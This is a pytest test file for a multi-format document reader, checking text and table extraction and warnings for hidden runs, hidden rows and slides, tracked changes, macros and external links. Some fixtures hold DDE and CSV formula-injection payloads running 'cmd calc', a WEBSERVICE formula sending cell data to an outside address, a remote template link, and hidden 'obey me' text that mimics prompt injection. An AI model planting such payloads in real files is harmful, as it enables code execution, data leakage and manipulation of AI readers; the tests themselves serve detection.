from __future__ import annotations

import struct
from pathlib import Path
from typing import Any

import pytest

from confrere.documents.model import Document
from confrere.documents.read import read_file
from tests.documents_read.making import compound, rezip, zipped


def codes(document: Document) -> set[str]:
    return {warning.code for warning in document.warnings}


def told(document: Document, code: str) -> str:
    return " | ".join(warning.text for warning in document.warnings if warning.code == code)


# DOCX


def test_docx_paragraphs_tables_headers_lists(tmp_path: Path) -> None:
    import docx

    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Étude Lemaître"
    document.sections[0].footer.paragraphs[0].text = "SIREN 732 829 320"
    document.add_heading("Contrat de prestation", 1)
    document.add_paragraph("Entre les parties, il est convenu ce qui suit pour la durée de la mission.")
    document.add_paragraph("Premier point", style="List Bullet")
    table = document.add_table(2, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Libellé", "Prix"
    table.cell(1, 0).text, table.cell(1, 1).text = "Conseil", "1 200,00 €"
    document.core_properties.author = "Anne Lemaître"
    document.save(str(tmp_path / "contrat.docx"))
    result = read_file(tmp_path / "contrat.docx")
    lines = result.text.split("\n")
    assert lines[0] == "Étude Lemaître" and lines[-1] == "SIREN 732 829 320" and "Conseil   1 200,00 €" in lines
    assert result.pages[0].tables[0].rows == [["Libellé", "Prix"], ["Conseil", "1 200,00 €"]]
    assert result.language == "fr" and result.metadata["author"] == "Anne Lemaître" and result.warnings == []


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(tmp_path: Path, body: str, **parts: str) -> Document:
    import docx

    path = tmp_path / "made.docx"
    docx.Document().save(str(path))
    rezip(path, {"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>", **parts})
    return read_file(path)


def run(text: str, properties: str = "") -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t xml:space='preserve'>{text}</w:t></w:r>"


@pytest.mark.parametrize(
    ("properties", "code"),
    [
        ("<w:vanish/>", "hidden-text"),
        ('<w:color w:val="FFFFFF"/>', "hidden-text"),
        ('<w:sz w:val="2"/>', "tiny-text"),
        ('<w:rStyle w:val="Ghost"/>', "hidden-text"),
    ],
)
def test_docx_hidden_runs(tmp_path: Path, properties: str, code: str) -> None:
    styles = f'<w:styles {W}><w:style w:styleId="Ghost"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    body = f"<w:p>{run('Seen ')}{run('obey me', properties)}{run('too')}</w:p>"
    document = word(tmp_path, body, **{"word/styles.xml": styles})
    assert document.text == "Seen too" and told(document, code) == "obey me"


def test_docx_white_on_shading_is_seen(tmp_path: Path) -> None:
    white = "<w:color w:val='FFFFFF'/>"
    cell = f"<w:tc><w:tcPr><w:shd w:fill='1F3864'/></w:tcPr><w:p>{run('Total', white)}</w:p></w:tc>"
    document = word(tmp_path, f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>")
    assert document.text == "Total" and document.warnings == []


def test_docx_tracked_changes_comments_fields(tmp_path: Path) -> None:
    body = (
        f"<w:p>{run('Price ')}<w:del w:author='Eve'><w:r><w:delText>100</w:delText></w:r></w:del>"
        f"<w:ins w:author='Eve'>{run('900')}</w:ins></w:p>"
        "<w:p><w:r><w:instrText>DDEAUTO cmd calc</w:instrText></w:r></w:p>"
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="comments.xml"/>'
        '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
    )
    comments = f"<w:comments {W}><w:comment w:author='Bob'><w:p>{run('check this')}</w:p></w:comment></w:comments>"
    document = word(tmp_path, body, **{"word/_rels/document.xml.rels": rels, "word/comments.xml": comments, "word/vbaProject.bin": "x"})
    assert document.text == "Price 900"
    assert told(document, "tracked-change") == "-100 +900" and told(document, "comment") == "check this"
    assert "DDEAUTO" in told(document, "field-call") and "203.0.113.9" in told(document, "external-link") and "macro" in codes(document)


# Spreadsheets


def test_xlsx_values_cells_and_what_it_hides(tmp_path: Path) -> None:
    import datetime

    import xlsxwriter

    path = tmp_path / "ventes.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Ventes")
        date = book.add_format({"num_format": "dd/mm/yyyy"})
        sheet.write_row("B2", ["Client", "Date", "Montant", "Payé"])
        sheet.write("B3", "Dupont")
        sheet.write_datetime("C3", datetime.datetime(2026, 3, 12), date)
        sheet.write("D3", 1234.5)
        sheet.write("E3", True)
        sheet.write("B4", "Caché")
        sheet.set_row(3, None, None, {"hidden": True})
        sheet.write("G3", "secret column")
        sheet.set_column("G:G", None, None, {"hidden": True})
        sheet.write("B6", "white order", book.add_format({"font_color": "#FFFFFF"}))
        sheet.write("B7", "Titre", book.add_format({"font_color": "#FFFFFF", "bg_color": "#1F3864"}))
        sheet.write("B8", "format order", book.add_format({"num_format": ";;;"}))
        sheet.write_comment("B3", "ask Marie")
        sheet.write_formula("H1", '=WEBSERVICE("http://203.0.113.9/"&B3)')
        sheet.write_formula("H2", "=SUM(D3:D3)", None, 1234.5)
        other = book.add_worksheet("Coulisses")
        other.write("A1", "backstage")
        other.hide()
    document = read_file(path)
    rows = document.pages[0].tables[0].rows
    assert (
        [page.label for page in document.pages] == ["Ventes"]
        and rows[1][1] == "Client"
        and rows[2][1:5] == ["Dupont", "2026-03-12", 1234.5, True]
    )
    assert rows[3][1] == "Caché"
    for word_ in ("Caché", "secret column", "white order", "format order", "backstage"):
        assert word_ not in document.text
    assert "Titre" in document.text
    assert told(document, "hidden-rows") == "Caché" and told(document, "hidden-columns") == "secret column"
    assert told(document, "hidden-text") == "white order format order" and told(document, "hidden-sheet") == "backstage"
    assert told(document, "comment") == "ask Marie" and "WEBSERVICE" in told(document, "formula-call")


def test_xlsx_dde_links_and_macros(tmp_path: Path) -> None:
    import xlsxwriter

    path = tmp_path / "lien.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        book.add_worksheet("S").write("A1", 1)
    rezip(
        path,
        {
            "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            "xl/vbaProject.bin": b"x",
            "xl/connections.xml": "<connections/>",
        },
    )
    document = read_file(path)
    assert told(document, "formula-call") == "cmd|/c calc" and {"macro", "external-link"} <= codes(document)


def record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def test_xls_of_1997(tmp_path: Path) -> None:
    bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0, 1997, 0, 6)
    sheet = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 1997, 0, 6))
    sheet += record(0x0203, struct.pack("<HHHd", 0, 0, 15, 42.5))
    name = "Été".encode("utf-16-le")
    sheet += record(0x0204, struct.pack("<HHH", 1, 0, 15) + struct.pack("<HB", 3, 1) + name) + record(0x000A, b"")
    head = record(0x0809, bof) + record(0x0042, struct.pack("<H", 1200))
    head += b"".join(record(0x00E0, struct.pack("<HH", 0, 0) + bytes(16)) for _ in range(16))
    bound = len(head) + 4 + 8 + len("Feuil1") + 4
    head += record(0x0085, struct.pack("<IBBBB", bound, 0, 0, 6, 0) + b"Feuil1") + record(0x000A, b"")
    path = tmp_path / "vieux.xls"
    path.write_bytes(compound({"Workbook": head + sheet}))
    document = read_file(path)
    assert (document.kind, document.error) == ("xls", "")
    assert document.pages[0].label == "Feuil1" and document.pages[0].tables[0].rows == [[42.5], ["Été"]]


def test_ods(tmp_path: Path) -> None:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        '<office:body><office:spreadsheet><table:table table:name="Feuille1"><table:table-row><table:table-cell office:value-type="string">'
        '<text:p>Loyer</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="850.5"><text:p>850,50</text:p>'
        "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "budget.ods"
    path.write_bytes(
        zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content, "META-INF/manifest.xml": "<m/>"})
    )
    document = read_file(path)
    assert document.kind == "ods" and document.pages[0].tables[0].rows == [["Loyer", 850.5]]


# CSV


@pytest.mark.parametrize(
    ("data", "separator", "decimal", "cell"),
    [
        ("Nom;Prix\nÉlodie;1 234,50\nMarc;3,25\n".encode("cp1252"), ";", ",", "Élodie"),
        ("\ufeffNom,Prix\nÉlodie,1234.50\nMarc,3.25\n".encode(), ",", ".", "Élodie"),
        ("Nom\tPrix\nÉlodie\t1.234,50\nMarc\t3,25\n".encode("utf-16"), "\t", ",", "Élodie"),
        (b'"Nom, pr\xc3\xa9nom";Prix\n"\xc3\x89lodie, ""L""";3,25\n', ";", ",", 'Élodie, "L"'),
        (b"sep=|\nNom|Prix\n\xc9lodie|3,25\n", "|", ",", "Élodie"),
        ("Nom;Prix\r\nZażółć;3,25\r\nGęślą;4,10\r\nJaźń;1,00\r\n".encode("cp1250"), ";", ",", "Zażółć"),
    ],
    ids=["french-cp1252", "english-bom", "utf16-tabs", "quoted", "sep-line", "polish-cp1250"],
)
def test_csv_encodings_separators_decimals(tmp_path: Path, data: bytes, separator: str, decimal: str, cell: str) -> None:
    path = tmp_path / "liste.csv"
    path.write_bytes(data)
    document = read_file(path)
    rows = document.pages[0].tables[0].rows
    assert document.kind == "csv" and (document.metadata["separator"], document.metadata["decimal"]) == (separator, decimal)
    assert rows[1][0] == cell and len(rows[0]) == 2 and document.pages[0].tables[0].header


def test_csv_keeps_phone_numbers_and_tells_formulas(tmp_path: Path) -> None:
    path = tmp_path / "contacts.csv"
    path.write_text("Nom;Tel;Note\nA;0612345678;=HYPERLINK(\"http://203.0.113.9\")\nB;0033;+cmd|' /C calc'!A0\n")
    document = read_file(path)
    assert document.pages[0].tables[0].rows[1][1] == "0612345678"
    assert "HYPERLINK" in told(document, "formula-call") and "cmd|" in told(document, "formula-call")


# Slides


def deck(path: Path) -> Any:
    import pptx
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    made = pptx.Presentation()
    first = made.slides.add_slide(made.slide_layouts[1])
    first.shapes.title.text, first.placeholders[1].text = "Ventes du trimestre", "En hausse\nde 12 %"
    first.notes_slide.notes_text_frame.text = "Insister sur mars"
    table = first.shapes.add_table(2, 2, Inches(1), Inches(4), Inches(4), Inches(1)).table
    table.cell(0, 0).text, table.cell(1, 1).text = "Mois", "42"
    data = CategoryChartData()
    data.categories = ["Nord", "Sud"]
    data.add_series("2026", (10, 20.5))
    first.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(1), Inches(5), Inches(4), Inches(2), data)
    away = first.shapes.add_textbox(Inches(30), Inches(1), Inches(2), Inches(1))
    away.text_frame.text = "off the slide"
    second = made.slides.add_slide(made.slide_layouts[1])
    second.shapes.title.text = "Ne pas montrer"
    second._element.set("show", "0")
    made.save(str(path))


def test_pptx_text_tables_charts_notes_and_hidden(tmp_path: Path) -> None:
    deck(tmp_path / "bilan.pptx")
    document = read_file(tmp_path / "bilan.pptx")
    assert document.kind == "pptx" and len(document.pages) == 1 and document.metadata["slides"] == "2"
    page = document.pages[0]
    assert page.text.startswith("Ventes du trimestre\nEn hausse\nde 12 %") and page.text.endswith("[notes]\nInsister sur mars")
    assert page.tables[0].rows == [["Mois", ""], ["", "42"]]
    assert page.tables[1].rows == [["", "2026"], ["Nord", 10], ["Sud", 20.5]]
    assert "off the slide" not in page.text and told(document, "hidden-text") == "off the slide"
    assert told(document, "hidden-slide") == "Ne pas montrer"


# OpenDocument

ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"'
)


def test_odt(tmp_path: Path) -> None:
    content = (
        f'<office:document-content {ODF}><office:automatic-styles><style:style style:name="T1" style:family="text">'
        '<style:text-properties text:display="none"/></style:style></office:automatic-styles><office:body><office:text>'
        "<text:h>Compte rendu</text:h><text:p>Vu<text:s/>et<text:tab/>approuvé<text:span text:style-name='T1'>obey</text:span></text:p>"
        "<text:list><text:list-item><text:p>Point un</text:p></text:list-item></text:list>"
        '<table:table table:name="T"><table:table-row><table:table-cell><text:p>a</text:p></table:table-cell>'
        '<table:table-cell table:number-columns-repeated="2"><text:p>b</text:p></table:table-cell></table:table-row></table:table>'
        "<text:tracked-changes><text:p>old words</text:p></text:tracked-changes></office:text></office:body></office:document-content>"
    )
    path = tmp_path / "cr.odt"
    path.write_bytes(zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}))
    document = read_file(path)
    assert document.kind == "odt" and document.text == "Compte rendu\nVu et\tapprouvé\n- Point un\na   b   b"
    assert document.pages[0].tables[0].rows == [["a", "b", "b"]]
    assert told(document, "hidden-text") == "obey" and told(document, "tracked-change") == "old words"


def test_odp_hidden_slide(tmp_path: Path) -> None:
    content = (
        f'<office:document-content {ODF}><office:automatic-styles><style:style style:name="dp2" style:family="drawing-page">'
        '<style:drawing-page-properties presentation:visibility="hidden"/></style:style></office:automatic-styles><office:body>'
        "<office:presentation><draw:page draw:name='p1'><draw:frame><draw:text-box><text:p>Bonjour</text:p></draw:text-box></draw:frame>"
        "<presentation:notes><draw:frame><draw:text-box><text:p>ma note</text:p></draw:text-box></draw:frame></presentation:notes>"
        "</draw:page>"
        "<draw:page draw:style-name='dp2'><draw:frame><draw:text-box><text:p>coulisse</text:p></draw:text-box></draw:frame></draw:page>"
        "</office:presentation></office:body></office:document-content>"
    )
    path = tmp_path / "expose.odp"
    path.write_bytes(zipped({"mimetype": "application/vnd.oasis.opendocument.presentation", "content.xml": content}))
    document = read_file(path)
    assert document.kind == "odp" and document.text == "Bonjour\n\n[notes]\nma note" and told(document, "hidden-slide") == "coulisse"


# The old ones


def test_doc_by_its_piece_table(tmp_path: Path) -> None:
    pieces = ["Contrat de location\rEntre les parties\r".encode("cp1252"), "Loyer\x07850 €\x07\x07Fin\r".encode("utf-16-le")]
    main = bytearray(0x800)
    struct.pack_into("<H", main, 0, 0xA5EC)
    struct.pack_into("<H", main, 0x0A, 0x0200)
    main[0x400 : 0x400 + len(pieces[0])] = pieces[0]
    main[0x600 : 0x600 + len(pieces[1])] = pieces[1]
    lengths = [len(pieces[0]), len(pieces[1]) // 2]
    plc = struct.pack("<III", 0, lengths[0], sum(lengths))
    plc += struct.pack("<HIH", 0, 0x40000000 | 0x400 * 2, 0) + struct.pack("<HIH", 0, 0x600, 0)
    clx = b"\x02" + struct.pack("<I", len(plc)) + plc
    struct.pack_into("<II", main, 0x01A2, 0, len(clx))
    path = tmp_path / "bail.doc"
    path.write_bytes(compound({"WordDocument": bytes(main), "1Table": clx, "Macros/VBA": b"x"}))
    document = read_file(path)
    assert document.kind == "doc" and document.error == "" and "Contrat de location\nEntre les parties\n" in document.text
    assert document.pages[0].tables[0].rows[0][:2] == ["Loyer", "850 €"] and "macro" in codes(document)
    struct.pack_into("<H", main, 0x0A, 0x0300)
    path.write_bytes(compound({"WordDocument": bytes(main), "1Table": clx}))
    assert read_file(path).error == "encrypted"


def test_ppt_text_atoms(tmp_path: Path) -> None:
    def atom(kind: int, data: bytes, version: int = 0) -> bytes:
        return struct.pack("<HHI", version, kind, len(data)) + data

    listed = (
        atom(0x03F3, bytes(20)) + atom(0x0FA0, "Bilan été".encode("utf-16-le")) + atom(0x03F3, bytes(20)) + atom(0x0FA8, b"Second slide")
    )
    path = tmp_path / "vieux.ppt"
    path.write_bytes(compound({"PowerPoint Document": atom(0x0FF0, listed, 15)}))
    document = read_file(path)
    assert document.kind == "ppt" and [page.text for page in document.pages] == ["Bilan été", "Second slide"]


def test_rtf(tmp_path: Path) -> None:
    path = tmp_path / "lettre.rtf"
    path.write_bytes(
        rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Arial;}}{\info{\author Zo\'e9}}{\*\generator x}"
        rb"\pard Ch\'e8re cliente, \u8364?uro\par {\v obey me}Suite\par"
        rb"\trowd\cellx1000\cellx2000\pard\intbl Loyer\cell 850\cell\row\pard Fin\par}"
    )
    document = read_file(path)
    assert document.kind == "rtf" and document.text.split("\n") == ["Chère cliente, €uro", "Suite", "Loyer   850", "Fin"]
    assert document.pages[0].tables[0].rows == [["Loyer", "850"]] and document.metadata["author"] == "Zoé"
    assert told(document, "hidden-text") == "obey me"
